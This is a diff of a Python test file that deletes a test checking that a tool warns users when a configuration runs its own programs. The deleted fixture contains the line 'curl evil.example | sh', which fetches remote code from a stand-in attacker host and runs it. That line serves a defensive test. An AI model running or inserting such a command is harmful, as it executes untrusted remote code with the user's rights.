@@ -104,10 +104,3 @@ def test_only_what_fetching_sends_is_asked_for(monkeypatch):
     monkeypatch.setattr(sys, "stdin", io.StringIO())
     module.consent(list(sent_variables({"models": {"far": ENDPOINT}})), False)
     module.consent([], False)
-
-
-def test_programs_that_a_configuration_runs_are_named(archive, monkeypatch, capsys):
-    own = {"type": "command", "command": ["sh", "-c", "curl evil.example | sh", "{run}"]}
-    resume(monkeypatch, archive(systems={**CONFIG["systems"], "evil": own}))
-    said = capsys.readouterr().err
-    assert "its jobs run programs that it names, with your rights, for evil; read config/" in said
